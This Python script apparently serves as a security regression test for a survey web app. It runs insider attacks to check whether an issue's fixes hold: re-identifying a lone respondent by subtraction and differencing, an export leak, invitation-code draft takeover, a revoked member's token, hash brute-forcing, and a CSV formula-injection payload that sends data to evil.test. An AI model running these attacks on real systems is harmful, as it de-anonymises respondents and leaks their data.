#!/usr/bin/env python3
"""Issue 15's attacks, run from outside against a running app as an insider would run them: an API
token, a signed-in owner or facilitator, a browser typing an invitation code, a copy of the
database. Each attack plants answers it then tries to recover, and prints whether it recovered them
(RECOVERED, with the figures) or learned nothing (with what the app answered). The same script runs
against this code and against the code from before issue 15 (scripts/attacks-before-after.sh), so
the suite in tests/RelationalCoordination.Web.Tests/Attacks is shown to test attacks that worked.

  scripts/attacks.py --base http://127.0.0.1:5000 --token rc_… --email E --password P --db "host=… port=… dbname=rc user=postgres password=…"

Standard library only (plus psql for the database copy). Exit code: 0 if every attack learned
nothing, 1 if any recovered hidden answers (or worked), 2 if the script itself failed.
"""

import argparse
import csv
import hashlib
import html as htmllib
import http.cookiejar
import io
import itertools
import json
import re
import subprocess
import sys
import urllib.error
import urllib.parse
import urllib.request
import uuid
import zipfile

HEADER = "respondent_id,role,target_role,frequent,timely,accurate,problem_solving,shared_goals,shared_knowledge,mutual_respect"
ITEMS = ["frequent", "timely", "accurate", "problem_solving", "shared_goals", "shared_knowledge", "mutual_respect"]
# The same items as the API's JSON names them.
API_ITEMS = ["frequent", "timely", "accurate", "problemSolving", "sharedGoals", "sharedKnowledge", "mutualRespect"]
# The lone pharmacist's hidden answers: about the nurses, and about the pharmacists' own role.
HIDDEN_ABOUT_NURSES = [1, 2, 1, 2, 2, 1, 2]
HIDDEN_ABOUT_OWN = [5, 4, 5, 4, 5, 5, 4]
NURSES = [([4, 4, 3, 4, 5, 4, 4], [3, 3, 2, 3, 4, 3, 3]), ([5, 4, 4, 4, 5, 5, 4], [2, 3, 3, 2, 3, 3, 4]), ([3, 4, 4, 5, 4, 4, 5], [3, 2, 2, 3, 3, 4, 3])]
TOKEN_FIELD = re.compile(r'name="__RequestVerificationToken" type="hidden" value="([^"]+)"')


class Client:
    """A browser (cookies, antiforgery tokens from the page's form) or an API client (bearer token)."""

    def __init__(self, base, token=None):
        self.base, self.token = base, token
        self.jar = http.cookiejar.CookieJar()
        self.opener = urllib.request.build_opener(urllib.request.HTTPCookieProcessor(self.jar))

    def call(self, method, path, body=None, content_type=None, headers=None, form=None):
        """(status, final path, body text or bytes, content type); follows redirects; 4xx/5xx returned, not raised."""
        headers = dict(headers or {})
        if self.token:
            headers["Authorization"] = f"Bearer {self.token}"
        if form is not None:
            body, content_type = urllib.parse.urlencode(form).encode(), "application/x-www-form-urlencoded"
        if isinstance(body, str):
            body = body.encode()
        if content_type:
            headers["Content-Type"] = content_type
        request = urllib.request.Request(self.base + path, data=body, method=method, headers=headers)
        try:
            with self.opener.open(request, timeout=120) as response:
                status, url, data, ctype = response.status, response.geturl(), response.read(), response.headers.get("Content-Type", "")
        except urllib.error.HTTPError as error:
            status, url, data, ctype = error.code, error.geturl(), error.read(), error.headers.get("Content-Type", "")
        text = data if "zip" in ctype or "spreadsheet" in ctype or "octet" in ctype else data.decode("utf-8", "replace")
        return status, urllib.parse.urlparse(url).path, text, ctype

    def json(self, method, path, payload=None):
        status, _, text, _ = self.call(method, path, json.dumps(payload) if payload is not None else None, "application/json" if payload is not None else None)
        return status, (json.loads(text) if text and text.lstrip()[:1] in "[{" else text)

    def post_form(self, page, handler=None, fields=()):
        """Posts a form of <page> as a browser would: with the antiforgery token the page's form carries."""
        _, _, text, _ = self.call("GET", page)
        match = TOKEN_FIELD.search(text)
        form = list(fields) + ([("__RequestVerificationToken", match.group(1))] if match else [])
        return self.call("POST", page + (f"?handler={handler}" if handler else ""), form=form)

    def sign_in(self, email, password):
        status, path, text, _ = self.post_form("/account/signin", fields=[("Email", email), ("Password", password), ("Input.Email", email), ("Input.Password", password)])
        orgs = re.findall(r"/orgs/([0-9a-f-]{36})", text) or re.findall(r"/orgs/([0-9a-f-]{36})", self.call("GET", "/orgs")[2])
        if not orgs:
            raise RuntimeError(f"sign-in as {email} failed: {status} {path}")
        return orgs[0]


def responses(*respondents):
    """Responses CSV: (id, role, [(target, scores)])."""
    lines = [HEADER] + [f"{rid},{role},{target}," + ",".join(map(str, scores)) for rid, role, answers in respondents for target, scores in answers]
    return "\n".join(lines) + "\n"


def nurses_and_pharmacist():
    rows = [(f"n{i}", "Nurses", [("Nurses", own), ("Pharmacists", other)]) for i, (own, other) in enumerate(NURSES)]
    return responses(*rows, ("p1", "Pharmacists", [("Nurses", HIDDEN_ABOUT_NURSES), ("Pharmacists", HIDDEN_ABOUT_OWN)]))


def new_survey(api, title, roles, k=3):
    status, body = api.json("POST", "/api/v1/surveys", {"title": title, "workProcess": "discharging a patient", "minimumGroupSize": k, "roles": [{"name": r} for r in roles]})
    if status != 201:
        raise RuntimeError(f"creating a survey: {status} {body}")
    survey = body["id"]
    status, body = api.json("POST", f"/api/v1/surveys/{survey}/open")
    if status != 200:
        raise RuntimeError(f"opening a survey: {status} {body}")
    return survey


def import_csv(api, survey, text):
    status, _, body, _ = api.call("POST", f"/api/v1/surveys/{survey}/responses/import", text, "text/csv")
    if status != 200:
        raise RuntimeError(f"import: {status} {body}")


def results(api, survey, part):
    status, body = api.json("GET", f"/api/v1/surveys/{survey}/results/{part}")
    return body if status == 200 else None


def close(api, survey):
    status, body = api.json("POST", f"/api/v1/surveys/{survey}/close")
    if status != 200:
        raise RuntimeError(f"closing: {status} {body}")


def near(a, b):
    return all(x is not None and abs(x - y) < 1e-9 for x, y in zip(a, b, strict=True))


def mean(xs):
    return sum(xs) / len(xs)


# ---------------------------------------------------------------------------------------------- attacks


def subtraction(ctx):
    """4·rc_between − 3·T(Nurses→Pharmacists) and 4·rc_within − 3·T(Nurses→Nurses): the lone pharmacist's scores."""
    api = ctx.api
    survey = new_survey(api, "Attack: subtraction", ["Nurses", "Pharmacists"])
    import_csv(api, survey, nurses_and_pharmacist())
    # Read as soon as the app shows anything: while open if it does, else once closed.
    summary = results(api, survey, "summary")
    if summary is None:
        close(api, survey)
        summary = results(api, survey, "summary")
    ties = results(api, survey, "ties")
    tie = {(t["fromRole"], t["toRole"]): t for t in ties}
    n = summary["respondents"]
    others = n - 1
    about_nurses = n * summary["rcBetween"] - others * tie[("Nurses", "Pharmacists")]["strength"]
    about_own = n * summary["rcWithin"] - others * tie[("Nurses", "Nurses")]["strength"]
    truth = (mean(HIDDEN_ABOUT_NURSES), mean(HIDDEN_ABOUT_OWN))
    if near([about_nurses, about_own], truth):
        return True, f"summary pools {n} respondents: {n}·rc_between − {others}·T(N→Ph) = {about_nurses:.6f}, {n}·rc_within − {others}·T(N→N) = {about_own:.6f}: the pharmacist's own means {truth[0]:.6f}, {truth[1]:.6f}"
    return False, f"summary pools {n} respondents (the reportable ties' only); the subtraction gives {about_nurses:.6f} and {about_own:.6f}, not {truth[0]:.6f} and {truth[1]:.6f}"


def suppressed_counts(ctx):
    """A suppressed tie's n and a small role's respondent count: that a role of one answered, and how many."""
    api = ctx.api
    survey = new_survey(api, "Attack: counts", ["Nurses", "Pharmacists"])
    import_csv(api, survey, nurses_and_pharmacist())
    if results(api, survey, "ties") is None:
        close(api, survey)
    ties = results(api, survey, "ties")
    roles = results(api, survey, "roles")
    shown = [f"n={t['n']} on {t['fromRole']}→{t['toRole']}" for t in ties if t["suppressed"] and t.get("n") is not None]
    shown += [f"{r['role']}: {r['respondents']} respondent(s)" for r in roles if r["role"] == "Pharmacists" and r.get("respondents") is not None]
    if shown:
        return True, "suppressed figures still show their count: " + "; ".join(shown)
    return False, "suppressed ties show no n and the pharmacists no count (null)"


def item_means(ctx):
    """A dimension mean only one rater answered, and a rater outside n who answered one item (decision 25)."""
    api = ctx.api

    def tie_of(title, rows):
        survey = new_survey(api, title, ["Nurses", "Pharmacists"])
        import_csv(api, survey, responses(*rows).replace("None", ""))
        if results(api, survey, "ties") is None:
            close(api, survey)
        return next(t for t in results(api, survey, "ties") if (t["fromRole"], t["toRole"]) == ("Nurses", "Pharmacists"))

    # Three nurses; only n1 answers problem-solving (1) and shared goals (2).
    lone = tie_of("Attack: a lone item", [("n1", "Nurses", [("Pharmacists", [4, 4, 4, 1, 2, 4, 4])]),
                                          ("n2", "Nurses", [("Pharmacists", [4, 5, 4, None, None, 5, 4])]),
                                          ("n3", "Nurses", [("Pharmacists", [5, 4, 4, None, None, 4, 5])])])
    # Three nurses answer everything; x1 answers "timely" (1) only, so is not in n.
    outside = tie_of("Attack: outside n", [("n1", "Nurses", [("Pharmacists", [4, 4, 4, 4, 5, 4, 4])]),
                                           ("n2", "Nurses", [("Pharmacists", [4, 3, 4, 5, 5, 4, 4])]),
                                           ("n3", "Nurses", [("Pharmacists", [4, 3, 3, 4, 4, 5, 5])]),
                                           ("x1", "Nurses", [("Pharmacists", [None, 1, None, None, None, None, None])])])
    got, held = [], []
    if near(lone["dimensionMeans"][3:5], [1, 2]):
        got.append(f"n = {lone['n']} but problem-solving {lone['dimensionMeans'][3]:g} and shared goals {lone['dimensionMeans'][4]:g}: n1's own 1 and 2")
    else:
        held.append(f"the lone item's tie (n = {lone['n']}) shows dimension means {lone['dimensionMeans']}")
    means = outside["dimensionMeans"]
    x1 = 4 * means[1] - 3 * (7 * outside["strength"] - sum(means[:1] + means[2:])) if None not in means else None
    if x1 is not None and abs(x1 - 1) < 1e-9:
        got.append(f"n = {outside['n']}: 4·D_timely − 3·(7T − the other six means) = {x1:.6f}, x1's timely 1")
    else:
        held.append(f"the subtraction for x1 gives {'nothing (withheld)' if x1 is None else f'{x1:.6f}'}, not 1: x1 is in no mean")
    if got:
        return True, "; ".join(got)
    return False, "; ".join(held)


def time_differencing(ctx):
    """Read, let one victim answer (plus fillers to complete a batch of k), read again, subtract."""
    api = ctx.api
    survey = new_survey(api, "Attack: differencing", ["A", "B"])
    rows = [(f"a{i}", "A", [("B", [3 + (i + j) % 3 for j in range(7)])]) for i in range(3)]
    rows += [(f"b{i}", "B", [("A", [2 + (i + j) % 4 for j in range(7)])]) for i in range(3)]
    import_csv(api, survey, responses(*rows))
    before = results(api, survey, "ties")
    victim = [1, 2, 1, 2, 1, 2, 1]
    bodies = [{"role": "B", "answers": [dict(targetRole="A", **dict(zip(API_ITEMS, victim, strict=True)))]}]
    bodies += [{"role": "A", "answers": [dict(targetRole="B", **dict.fromkeys(API_ITEMS, 4))]}] * 2
    statuses = [api.call("POST", f"/api/v1/surveys/{survey}/responses", json.dumps(b), "application/json", {"Idempotency-Key": str(uuid.uuid4())})[0] for b in bodies]
    after = results(api, survey, "ties")
    if before is None or after is None:
        close(api, survey)
        closed = results(api, survey, "ties")
        late = api.call("POST", f"/api/v1/surveys/{survey}/responses", json.dumps(bodies[0]), "application/json", {"Idempotency-Key": str(uuid.uuid4())})[0]
        again = results(api, survey, "ties")
        return False, (f"open survey: results answered {'409' if before is None else 'figures'} before and {'409' if after is None else 'figures'} after the victim "
                       f"(submits {statuses}); closed: one publication, a later answer gets {late}, and the results are {'unchanged' if again == closed else 'CHANGED'}")
    tie_before = next(t for t in before if (t["fromRole"], t["toRole"]) == ("B", "A"))
    tie_after = next(t for t in after if (t["fromRole"], t["toRole"]) == ("B", "A"))
    nb, na = tie_before["n"], tie_after["n"]
    recovered = [na * a - nb * b for a, b in zip(tie_after["dimensionMeans"], tie_before["dimensionMeans"], strict=True)]
    if near(recovered, victim):
        return True, f"T(B→A) read while open, n {nb} → {na}: n_after·mean_after − n_before·mean_before = {[round(x, 9) for x in recovered]}, the victim's seven scores"
    return False, f"the difference gives {recovered}, not the victim's {victim}"


def raw_export(ctx):
    """The raw responses export, as the owner: the lone pharmacist's rows are that person's answers."""
    api, owner = ctx.api, ctx.owner
    survey = new_survey(api, "Attack: raw export", ["Nurses", "Pharmacists"])
    import_csv(api, survey, nurses_and_pharmacist())
    path = f"/orgs/{ctx.org}/surveys/{survey}/export/responses.csv"
    status_open = owner.call("GET", path)[0]
    close(api, survey)
    status, _, text, _ = owner.call("GET", path)
    rows = list(csv.DictReader(io.StringIO(text))) if status == 200 else []
    lone = [r for r in rows if r.get("role") == "Pharmacists"]
    found = {r["target_role"]: [int(r[i]) for i in ITEMS] for r in lone}
    if found.get("Nurses") == HIDDEN_ABOUT_NURSES:
        return True, f"export answered {status_open} while open; the pharmacist's rows are in it: about Nurses {found['Nurses']}, about Pharmacists {found.get('Pharmacists')}"
    note = re.findall(r"(?i)^#.*|left out.*", text if isinstance(text, str) else "", re.M)[:1]
    return False, f"export answered {status_open} while open and {status} once closed, with {len(rows)} rows and none of the pharmacist's {note}"


def draft_takeover(ctx):
    """The facilitator who mailed a code types it in after its owner has started: are their answers shown?"""
    api, owner = ctx.api, ctx.owner
    survey = new_survey(api, "Attack: draft takeover", ["Nurses", "Physicians"])
    share = f"/orgs/{ctx.org}/surveys/{survey}/share"
    _, _, page, _ = owner.post_form(share, "Codes", [("count", "1")])
    codes = dict((htmllib.unescape(r), c) for r, c in re.findall(r'<tr><td>([^<]*)</td><td class="code" data-code="([0-9A-Z]{10})">', page))
    if not codes:
        # Before issue 15 the codes stayed downloadable: the CSV of every code, used or not.
        _, _, text, _ = owner.call("GET", f"{share}?handler=CodesCsv")
        codes = {r["role"]: r["code"] for r in csv.DictReader(io.StringIO(text))}
    code = codes["Nurses"]
    # The victim starts with the code and answers question 1.
    victim = Client(ctx.base)
    status, path, page, _ = victim.post_form("/c", fields=[("code", code)])
    key = path.split("/")[2]
    _, qpath, question, _ = victim.call("GET", f"/s/{key}/q/1")
    groups = sorted(set(re.findall(r'name="(q1\.[0-9a-f]{32})"', question)))
    answers = {g: str(s) for g, s in zip(groups, (2, 5), strict=False)}
    victim.post_form(f"/s/{key}/q/1", fields=[*answers.items(), ("go", "next")])
    # The insider, in a fresh browser, types the same code.
    insider = Client(ctx.base)
    status, path, page, _ = insider.post_form("/c", fields=[("code", code)])
    _, _, question, _ = insider.call("GET", f"/s/{key}/q/1")
    seen = dict(re.findall(r'name="(q1\.[0-9a-f]{32})" value="(\d)" checked', question))
    if seen and seen == answers:
        return True, f"the code moved the draft to the insider's browser ({status}); question 1 shows the victim's answers pre-selected: {sorted(seen.values())}"
    return False, f"entering the started code answered {status} ({first_sentence(page)}); question 1 shows {len(seen)} answers"


def first_sentence(page):
    text = re.sub(r"\s+", " ", htmllib.unescape(re.sub(r"<[^>]+>", " ", page if isinstance(page, str) else "")))
    match = re.search(r"(This code[^.]*\.|[^.]*already[^.]*\.)", text)
    return (match.group(1) if match else text[:80]).strip()


def removed_member_token(ctx):
    """A facilitator makes an API token, is removed from the organisation, and keeps using it."""
    owner = ctx.owner
    members = f"/orgs/{ctx.org}/members"
    _, _, page, _ = owner.post_form(members, "Invite", [("role", "Facilitator")])
    link = re.search(r'id="invitation-link">https?://[^/]+(/invitations/[^<]+)<', page).group(1)
    email = f"leaver-{uuid.uuid4().hex[:8]}@attack.test"
    leaver = Client(ctx.base)
    leaver.post_form("/account/signup", fields=[("Input.Email", email), ("Input.Password", "Leaver-password-1")])
    leaver.post_form(link)
    _, _, page, _ = leaver.post_form(f"/orgs/{ctx.org}/tokens", "Create", [("name", "mine")])
    token = re.search(r'id="token">([^<]+)<', page).group(1).strip()
    _, _, page, _ = owner.call("GET", members)
    user = re.search(re.escape(email) + r'.*?name="userId" value="([0-9a-f-]{36})"', page, re.S).group(1)
    owner.post_form(members, "Remove", [("userId", user)])
    still = Client(ctx.base, token)
    status, _ = still.json("GET", "/api/v1/surveys")
    created, _ = still.json("POST", "/api/v1/surveys", {"title": "after leaving", "workProcess": "x", "minimumGroupSize": 3, "roles": [{"name": "A"}]})
    if status == 200 or created == 201:
        return True, f"after removal the token still lists surveys ({status}) and creates one ({created})"
    return False, f"after removal the token gets {status} listing surveys and {created} creating one"


def idempotency_record(ctx):
    """A copy of the database: try every answer combination against the stored hash of a retried body."""
    api = ctx.api
    survey = new_survey(api, "Attack: idempotency record", ["Nurses", "Pharmacists"])
    secret = [3, 1, 4, 1, 5, None, 2]

    def body(scores):
        return json.dumps({"role": "Pharmacists", "answers": [dict(targetRole="Nurses", **dict(zip(API_ITEMS, scores, strict=True)))]}, separators=(",", ":"))

    status = api.call("POST", f"/api/v1/surveys/{survey}/responses", body(secret), "application/json", {"Idempotency-Key": "kiosk-7"})[0]
    rows = psql(ctx.db, f"""SELECT "RequestHash" || ' ' || row_to_json(r)::text FROM "IdempotentRequests" r WHERE "SurveyId" = '{survey}'""")
    if not rows:
        return False, f"submit answered {status}; no idempotency record of the survey is in the database"
    stored = {row.split(" ", 1)[0] for row in rows}
    for scores in itertools.product([1, 2, 3, 4, 5, None], repeat=7):
        if hashlib.sha256(body(list(scores)).encode()).hexdigest() in stored:
            return True, f"6^7 bodies tried against the stored SHA-256: the answers {list(scores)} (row: {rows[0][65:200]})"
    return False, f"6^7 bodies tried: none matches the stored hash (keyed; row: {rows[0][65:200]})"


def formula_injection(ctx):
    """A role named as a spreadsheet formula: does any CSV the app writes carry it as a formula?"""
    api, owner = ctx.api, ctx.owner
    evil = '=HYPERLINK("http://evil.test/?"&A1,"open")'
    survey = new_survey(api, "Attack: formula", ["Nurses", evil])
    rows = [(f"n{i}", "Nurses", [("Nurses", own), (evil, other)]) for i, (own, other) in enumerate(NURSES)]
    rows += [(f"e{i}", evil, [("Nurses", own), (evil, other)]) for i, (own, other) in enumerate(NURSES)]
    import_csv(api, survey, responses(*rows).replace(evil, '"' + evil.replace('"', '""') + '"'))
    close(api, survey)
    files = {}
    _, _, files["api ties.csv"], _ = api.call("GET", f"/api/v1/surveys/{survey}/results/ties", headers={"Accept": "text/csv"})
    _, _, files["raw responses.csv"], _ = owner.call("GET", f"/orgs/{ctx.org}/surveys/{survey}/export/responses.csv")
    _, _, archive, _ = owner.call("GET", f"/orgs/{ctx.org}/surveys/{survey}/results/export/results.zip")
    if isinstance(archive, bytes) and archive[:2] == b"PK":
        with zipfile.ZipFile(io.BytesIO(archive)) as z:
            for name in z.namelist():
                if name.endswith(".csv"):
                    files[f"results.zip {name}"] = z.read(name).decode("utf-8-sig")
    live = [name for name, text in files.items() if isinstance(text, str) and any(cell.startswith("=") for row in csv.reader(io.StringIO(text)) for cell in row)]
    if live:
        return True, f"cells a spreadsheet runs as a formula in {', '.join(live)}"
    return False, f"{len(files)} CSV files read: no cell starts with =, +, -, @ (the role is written '{evil[:10]}…)"


def many_roles(ctx):
    """A survey of 500 roles: its results pages grow to tens of megabytes."""
    status, body = ctx.api.json("POST", "/api/v1/surveys", {"title": "Attack: 500 roles", "workProcess": "x", "minimumGroupSize": 3, "roles": [{"name": f"Role {i}"} for i in range(500)]})
    if status == 201:
        return True, "a survey of 500 roles is accepted (201)"
    return False, f"a survey of 500 roles is refused: {status} {str(body)[:120]}"


def psql(db, sql):
    out = subprocess.run(["psql", db, "-At", "-c", sql], check=True, capture_output=True, text=True).stdout
    return [line for line in out.splitlines() if line]


# These two do not recover answers but what the issue found they gave away: a small group's count, a 46 MB page.
suppressed_counts.outcome = many_roles.outcome = "WORKED"

ATTACKS = [subtraction, suppressed_counts, item_means, time_differencing, raw_export, draft_takeover, removed_member_token, idempotency_record, formula_injection, many_roles]


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--base", required=True)
    parser.add_argument("--token", required=True, help="an owner's API token (Bootstrap:ApiToken)")
    parser.add_argument("--email", required=True)
    parser.add_argument("--password", required=True)
    parser.add_argument("--db", required=True, help="a libpq connection string to the app's database (the copy an insider holds)")
    parser.add_argument("--label", default="this code")
    args = parser.parse_args()
    ctx = argparse.Namespace(base=args.base, api=Client(args.base, args.token), owner=Client(args.base), db=args.db)
    ctx.org = ctx.owner.sign_in(args.email, args.password)
    recovered = 0
    print(f"| attack ({args.label}) | outcome | what the attacker got |\n|---|---|---|")
    for attack in ATTACKS:
        try:
            found, evidence = attack(ctx)
        except Exception as error:  # noqa: BLE001 - a failed step is reported, not hidden
            print(f"| {attack.__name__.replace('_', ' ')} | ERROR | {type(error).__name__}: {error} |")
            sys.exit(2)
        recovered += found
        print(f"| {attack.__name__.replace('_', ' ')} | {getattr(attack, 'outcome', 'RECOVERED') if found else 'learned nothing'} | {evidence.replace('|', '/')} |", flush=True)
    sys.exit(1 if recovered else 0)


if __name__ == "__main__":
    main()
